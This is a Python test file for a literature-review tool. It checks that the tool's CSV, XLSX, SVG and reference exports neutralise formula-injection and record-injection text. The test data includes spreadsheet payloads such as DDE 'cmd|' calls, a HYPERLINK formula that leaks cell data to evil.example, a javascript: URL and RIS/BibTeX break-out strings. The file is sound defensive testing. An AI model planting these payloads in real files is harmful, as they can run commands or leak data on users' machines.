"""Hostile text through every output: nothing executed, nothing lost, no traceback.

One review carries hostile strings in every place text can come from: the
references (titles, authors, venues, keywords), the codebook (review title,
criteria, dimension, code, field, choice and group labels) and the sheets
(screening notes, memos, field values, group rows, evidence quotes, flag
reasons). Every output is produced (`export` with charts, `records`, `sheet`
CSV and XLSX, `agreement --format csv`, `log --format csv`) and
`check_outputs` asserts, in one place:

- no CSV cell starts with = + - @ tab or CR unless it is a plain number
  (a neutralized cell starts with a quote; `restore` gives the value back);
- numbers stay numbers (-0.5 is written as -0.5 in CSV and as a number in XLSX);
- every XLSX cell read back by openpyxl is a value, never a formula;
- every SVG is well-formed XML;
- the hostile values are found intact (after `restore`; XLSX shows the
  characters XML cannot hold as visible symbols and cuts text past Excel's
  32,767-character cell limit with a marker).
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook

from tests.io.export_review import DATA
from workbench.cli import cli
from workbench.io.exports.xlsx import CELL_MAX
from workbench.io.safe_cells import DANGEROUS, restore, visible_text
from workbench.review import Review
from workbench.review.coding import open_coding_session
from workbench.review.screening import open_session

LONG = "L" * 40_000 + " =end"
#: Values written verbatim to the sheets (must come back intact in every CSV).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "nul\x00inside and \x0bvertical tab",
    "$x^2$ and $\\frac{$ costs $5",
    "مطالعہ \u202eevil\u202c 😀 עברית",
    "'=already quoted",
    LONG,
]
#: Titles of the imported references (printable: importers may tidy whitespace).
TITLES = [
    '=HYPERLINK("http://evil.example","Alpha")', "+Bravo cmd|' /C calc'!A0", "-2+3 Charlie",
    "@SUM(1) Delta", "$x^2$ Echo $\\frac{$", "مطالعہ Foxtrot \u202eevil\u202c 😀",
]
NUMBER = "-0.5"


def _codebook(path: Path) -> None:
    book = yaml.safe_load((DATA / "review" / "codebook.yaml").read_text(encoding="utf-8"))
    book["review"]["title"] = "=Review $x$ @SUM(1)"
    for n, crit in enumerate(book["criteria"]):
        crit["label"] = ["+About $PK$", "-Outside 2010-2025", "=E2()", "@E3 $"][n]
    labels = iter(['=HYPERLINK("http://x","c")', "$x^2$ Twitter", "+Facebook", "-2+3",
                   "@SUM(A1)", "\tTab code"])
    for dim in book["dimensions"]:
        dim["label"] = next(labels)
        for code in dim["codes"]:
            code["label"] = next(labels)
    book["fields"][0]["label"] = "=Source $type$"
    book["fields"][0]["choices"][0]["label"] = "@Peer-reviewed"
    book["fields"].append({"id": "comment", "label": "-Comment $", "type": "text"})
    book["groups"][0]["label"] = "+Campaign $"
    book["groups"][0]["fields"][0]["label"] = "=Campaign name"
    path.write_text(yaml.safe_dump(book, allow_unicode=True), encoding="utf-8")


def _references(path: Path) -> None:
    path.write_text("".join(
        f"TY  - JOUR\nTI  - {title}\nAU  - =cmd, A.\nAU  - +Plus, B.\nPY  - 2020\n"
        f"T2  - @Journal {n}\nKW  - -2+3\nKW  - $x$\nDO  - 10.1000/hostile.{n}\n"
        f"UR  - javascript:alert({n})\nER  - \n\n" for n, title in enumerate(TITLES)),
        encoding="utf-8")


def _code(review: Review) -> None:
    """Two coders agree on everything, with hostile text in every free-text place."""
    studies = [s.id for s in review.studies()]
    for who in ("alice", "bob"):
        for stage in ("title_abstract", "full_text"):
            session = open_session(review, who, stage)
            for n, sid in enumerate(studies):
                session.record(sid, "include", note=HOSTILE[n % len(HOSTILE)])
        coding = open_coding_session(review, who)
        for n, sid in enumerate(studies):
            text = HOSTILE[(n + 3) % len(HOSTILE)]
            coding.set_codes(sid, "platforms", ["twitter", "facebook"])
            coding.set_codes(sid, "policy_results", ["legislative_change"])
            coding.set_field(sid, "source_type", "peer_reviewed")
            coding.set_field(sid, "sample_size", "12")
            coding.set_field(sid, "comment", HOSTILE[n % len(HOSTILE)])
            coding.set_memo(sid, "platforms", text)
            coding.set_evidence(sid, "twitter", HOSTILE[(n + 6) % len(HOSTILE)], "=1+1")
            coding.add_row(sid, "campaign", {"name": HOSTILE[(n + 1) % len(HOSTILE)],
                                             "hashtag_reach": "2", "engagement_rate": NUMBER})
            if n % 2:
                coding.set_flag(sid, True, HOSTILE[(n + 9) % len(HOSTILE)])


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    """Build the hostile review, run every output; return (root, CSV texts, CLI results)."""
    root = tmp_path_factory.mktemp("hostile") / "review"
    for name in ("references", "coding", "exports"):
        (root / name).mkdir(parents=True)
    _codebook(root / "codebook.yaml")
    ris = root.parent / "hostile.ris"
    _references(ris)
    review = Review.open(root)
    review.import_references([ris], database="Scopus")
    _code(Review.open(root))

    runner = CliRunner()
    results = {}
    for name, args in {"export": ["export"], "records": ["records"],
                       "sheet": ["sheet", "--reviewer", "alice"],
                       "agreement": ["agreement", "--format", "csv"],
                       "log": ["log", "--format", "csv"]}.items():
        result = runner.invoke(cli, ["--review", str(root), *args])
        assert result.exit_code == 0, (name, result.output, result.exception)
        assert result.exception is None or isinstance(result.exception, SystemExit)
        results[name] = result
    texts = {f"stdout of {n}": results[n].stdout for n in ("records", "agreement", "log")}
    for path in sorted((root / "exports").rglob("*.csv")):
        texts[path.relative_to(root).as_posix()] = path.read_text(encoding="utf-8-sig")
    return root, texts, results


NUMERIC = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def check_outputs(texts: dict[str, str], workbooks: list[Path], svgs: list[Path]) -> tuple[
        set[str], set[str]]:
    """Assert every output is safe; return the restored CSV cells and the XLSX text cells."""
    cells: set[str] = set()
    for name, text in texts.items():
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert rows, f"{name} is empty"
        for line, row in enumerate(rows, start=1):
            for cell in row:
                if cell[:1] in DANGEROUS:
                    assert NUMERIC.fullmatch(cell), f"{name}:{line}: live formula {cell[:60]!r}"
                cells.add(restore(cell))
    shown: set[str] = set()
    for path in workbooks:
        book = load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name}:{cell.coordinate} is a formula"
                    if isinstance(cell.value, str):
                        shown.add(cell.value)
    for path in svgs:
        ET.parse(path)   # raises on a NUL or other character XML cannot hold
    return cells, shown


def test_every_output_is_safe_and_keeps_every_value(outputs):
    root, texts, _ = outputs
    exports = root / "exports"
    workbooks = sorted(exports.glob("*.xlsx"))
    svgs = sorted(exports.rglob("*.svg"))
    assert {p.name for p in workbooks} == {"workbench_export.xlsx", "sheet-alice.xlsx"}
    assert len(svgs) >= 4 and (exports / "prisma_flow.svg") in svgs
    assert {"coded_dataset.csv", "annotations.csv", "coded_long.csv", "campaigns.csv",
            "screening_log.csv", "prisma_counts.csv", "data_dictionary.csv",
            "sheet-alice.csv"} <= {Path(n).name for n in texts}

    cells, shown = check_outputs(texts, workbooks, svgs)

    for value in HOSTILE:                      # every sheet value survives every CSV
        assert value in cells, value[:40]
        if len(value) <= CELL_MAX:
            assert visible_text(value) in shown, value[:40]
    assert "nul\u2400inside and \u240bvertical tab" in shown
    cut = [v for v in shown if v.startswith("L" * 1000)]
    assert cut and all(len(v) <= CELL_MAX and "40,005 characters" in v for v in cut)
    for title in TITLES:
        assert title in cells and title in shown, title
    for label in ('=HYPERLINK("http://x","c")', "$x^2$ Twitter", "@SUM(A1)", "-Comment $",
                  "=Review $x$ @SUM(1)"):
        assert any(label in c for c in cells | shown), label


def test_numbers_stay_numbers(outputs):
    root, texts, _ = outputs
    campaigns = list(csv.DictReader(io.StringIO(texts["exports/campaigns.csv"])))
    assert campaigns and {r["engagement_rate"] for r in campaigns} == {NUMBER}
    book = load_workbook(root / "exports" / "workbench_export.xlsx")
    sheet = book["campaigns"]
    header = [c.value for c in sheet[1]]
    rates = [row[header.index("engagement_rate")] for row in sheet.iter_rows(min_row=2)]
    assert rates and all(c.data_type == "n" and c.value == -0.5 for c in rates)


def test_charts_draw_dollar_labels_as_text(outputs):
    root, _, _ = outputs
    svg = (root / "exports" / "charts" / "codes_platforms.svg").read_text(encoding="utf-8")
    assert "$x^2$ Twitter" in svg


def test_records_csv_reads_back_to_the_same_records(outputs):
    from workbench.io.exports.records_table import frame_to_records
    import pandas as pd

    root, texts, _ = outputs
    frame = pd.read_csv(io.StringIO(texts["stdout of records"]), dtype=str,
                        keep_default_na=False)
    assert frame_to_records(frame) == Review.open(root).records()


def test_sheet_xlsx_has_no_formula_even_from_a_cmd_note(tmp_path, outputs):
    root, _, _ = outputs
    copy = tmp_path / "review"
    shutil.copytree(root, copy)
    review = Review.open(copy)
    sid = review.studies()[0].id
    open_session(review, "carol", "title_abstract").record(
        sid, "include", note="=cmd|' /C calc'!A0")
    result = CliRunner().invoke(cli, ["--review", str(copy), "sheet", "--reviewer", "carol"])
    assert result.exit_code == 0, result.output
    book = load_workbook(copy / "exports" / "sheet-carol.xlsx")
    notes = [c for row in book.active.iter_rows() for c in row
             if c.value == "=cmd|' /C calc'!A0"]
    assert notes and all(c.data_type == "s" for c in notes)
    check_outputs({"sheet": (copy / "exports" / "sheet-carol.csv").read_text("utf-8-sig")},
                  [copy / "exports" / "sheet-carol.xlsx"], [])


def test_included_bib_and_ris_cannot_be_broken_out_of():
    from types import SimpleNamespace

    from workbench.io.formats.bibtex import parse_bibtex
    from workbench.io.exports.refs import bibtex_text, ris_text
    from workbench.io.formats.ris import parse_ris

    study = SimpleNamespace(
        id="S1", title="T}\n@misc{evil, title={x}", authors=("Ali, A.\nER  - \nTY  - JOUR",),
        year=2020, venue="V\nTI  - injected", volume="", issue="", pages="1-2\nER  - ",
        doi="10.1000/x}, note = {evil", pmid="", url="https://x.org/a}b{c",
        keywords=("k\nER  - ",), abstract="A\r\nER  - \nTY  - JOUR")
    bib = parse_bibtex(bibtex_text([study]), "included.bib")
    assert len(bib.records) == 1 and not bib.problems
    assert bib.records[0].url == "https://x.org/a%7Db%7Bc"
    ris = parse_ris(ris_text([study]), "included.ris")
    assert len(ris.records) == 1 and not ris.problems
    assert ris.records[0].authors == ("Ali, A. ER - TY - JOUR",)


FORMULA_STARTS = st.sampled_from(list("=+-@\t\r'") + ["", "\x00", "\x0b", "$", "-1", "\r\n"])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(FORMULA_STARTS, st.text(max_size=12)), min_size=1, max_size=6))
def test_any_text_round_trips_through_the_csv_and_xlsx_writers(cells):
    """Property: whatever the text, CSV gives it back exactly and XLSX shows it, never a formula."""
    import tempfile

    import pandas as pd

    from workbench.io.exports.xlsx import write_workbook
    from workbench.io.safe_cells import csv_text

    values = [start + rest for start, rest in cells]
    frame = pd.DataFrame({"text": values, "number": [-0.5] * len(values)})
    text = csv_text(frame)
    with tempfile.TemporaryDirectory() as tmp:
        book = Path(tmp) / "t.xlsx"
        write_workbook(book, {"t": frame})
        cells_read, shown = check_outputs({"t": text}, [book], [])
        sheet = load_workbook(book).active
        rows = list(sheet.iter_rows(min_row=2, values_only=True))
    back = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [restore(r[0]) for r in back] == values
    assert [r[1] for r in back] == ["-0.5"] * len(values)
    assert [r[0] or "" for r in rows] == [visible_text(v) for v in values]
    assert [r[1] for r in rows] == [-0.5] * len(values)
